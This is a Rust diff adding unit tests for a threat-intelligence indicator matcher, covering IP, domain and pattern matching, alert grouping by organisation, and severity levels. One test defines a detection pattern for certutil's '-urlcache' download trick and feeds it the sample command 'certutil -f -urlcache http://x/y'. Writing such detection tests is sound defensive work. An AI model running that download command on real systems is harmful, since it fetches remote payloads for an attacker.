@@ -552,3 +552,162 @@ pub(crate) fn alert_ids(sent: &[NewAlert], created: &[vigil_model::Alert]) -> Ve
         })
         .collect()
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use vigil_model::{AssetId, Provenance};
+
+    fn event(fields: serde_json::Value) -> NewEvent {
+        NewEvent {
+            org_id: OrgId(uuid::Uuid::nil()),
+            asset_id: None,
+            timestamp: now(),
+            received_at: now(),
+            provenance: Provenance {
+                input: "t".into(),
+                sender: None,
+            },
+            fields: serde_json::from_value(fields).expect("fields"),
+            native: Default::default(),
+            raw: Vec::new(),
+        }
+    }
+
+    fn matcher(values: &[(&str, &str)], patterns: &[&str]) -> IntelMatcher {
+        let mut stored = HashMap::new();
+        let mut atomic = Vec::new();
+        let mut pats = Vec::new();
+        let mut pattern_ids = Vec::new();
+        for (kind, v) in values {
+            let id = IndicatorId::new();
+            let ctx = Arc::new(IndicatorContext {
+                sources: vec![SourceRef {
+                    source: "feed".into(),
+                    reference: Some(id.to_string()),
+                    confidence: 70,
+                }],
+                ..IndicatorContext::default()
+            });
+            let kind = IndicatorKind::parse(kind).expect("kind");
+            atomic.push(Indicator::new(
+                IndicatorValue::parse(kind, v).expect("value"),
+                70,
+                ctx,
+            ));
+            stored.insert(
+                id,
+                StoredMeta {
+                    stix_id: format!("indicator--{id}").into(),
+                    name: None,
+                },
+            );
+        }
+        for p in patterns {
+            let id = IndicatorId::new();
+            pats.push(PatternIndicator {
+                id: format!("indicator--{id}"),
+                pattern_text: p.to_string(),
+                pattern: vigil_intel::pattern::parse(p).expect("pattern"),
+                confidence: 0,
+                valid_from: None,
+                valid_until: None,
+                context: Arc::new(IndicatorContext::default()),
+            });
+            pattern_ids.push(id);
+        }
+        IntelMatcher {
+            set: IndicatorSet::build(atomic, pats),
+            stored,
+            pattern_ids,
+        }
+    }
+
+    fn now() -> Timestamp {
+        "2026-11-21T10:00:00Z".parse().expect("ts")
+    }
+
+    #[test]
+    fn an_empty_set_matches_nothing() {
+        let m = IntelMatcher::default();
+        assert!(m.is_empty());
+        let e = event(serde_json::json!({"source.ip": "203.0.113.7"}));
+        assert!(m.match_event(&e, now()).is_empty());
+    }
+
+    #[test]
+    fn observables_and_general_patterns_match() {
+        let m = matcher(
+            &[("ipv4", "203.0.113.0/24"), ("domain", "evil.example")],
+            &["[process:command_line MATCHES '^certutil .*-urlcache']"],
+        );
+        let e = event(serde_json::json!({
+            "source.ip": "203.0.113.7",
+            "dns.question.name": "a.evil.example",
+            "host.name": "web-1",
+        }));
+        let hits = m.match_event(&e, now());
+        let seen: Vec<_> = hits.iter().map(|h| (h.field, h.value.as_str())).collect();
+        assert_eq!(
+            seen,
+            [
+                ("source.ip", "203.0.113.7"),
+                ("dns.question.name", "a.evil.example")
+            ]
+        );
+        let e = event(serde_json::json!({
+            "process.command_line": "certutil -f -urlcache http://x/y",
+        }));
+        let hits = m.match_event(&e, now());
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].target, Target::Pattern(0));
+        assert!(
+            m.match_event(&event(serde_json::json!({"message": "x"})), now())
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn one_alert_per_indicator_and_organization_with_a_sighting_per_event() {
+        let m = matcher(&[("ipv4", "203.0.113.7")], &[]);
+        let e = event(serde_json::json!({"source.ip": "203.0.113.7"}));
+        let hits = m.match_event(&e, now());
+        let org_a = OrgId(uuid::Uuid::now_v7());
+        let org_b = OrgId(uuid::Uuid::now_v7());
+        let meta = |org, asset: Option<AssetId>| EventMeta {
+            org_id: org,
+            asset_id: asset,
+            timestamp: now(),
+        };
+        let asset = Some(AssetId(uuid::Uuid::now_v7()));
+        let batch = [
+            (meta(org_a, asset), 1, hits.as_slice()),
+            (meta(org_a, None), 2, hits.as_slice()),
+            (meta(org_b, None), 3, hits.as_slice()),
+        ];
+        let o = m.outcome(&batch, Severity::Medium);
+        assert_eq!(o.alerts.len(), 2);
+        assert_eq!(o.alerts[0].org_id, org_a);
+        assert_eq!(o.alerts[0].event_ids, [1, 2]);
+        // Events of different assets: the alert names none.
+        assert_eq!(o.alerts[0].asset_id, None);
+        assert_eq!(o.alerts[0].source, AlertSource::Ioc);
+        assert_eq!(o.alerts[0].severity, Severity::Medium);
+        assert_eq!(o.alerts[1].event_ids, [3]);
+        assert_eq!(o.sightings.len(), 3);
+        let ids = [Some(AlertId(uuid::Uuid::now_v7())), None];
+        let s = o.sightings_with(&ids);
+        assert_eq!(s[0].alert_id, ids[0]);
+        assert_eq!(s[1].alert_id, ids[0]);
+        assert_eq!(s[2].alert_id, None);
+        assert_eq!(s[2].org_id, org_b);
+    }
+
+    #[test]
+    fn severity_follows_confidence() {
+        assert_eq!(severity(0, Severity::Info), Severity::Info);
+        assert_eq!(severity(20, Severity::Info), Severity::Low);
+        assert_eq!(severity(50, Severity::Info), Severity::Medium);
+        assert_eq!(severity(95, Severity::Info), Severity::High);
+    }
+}
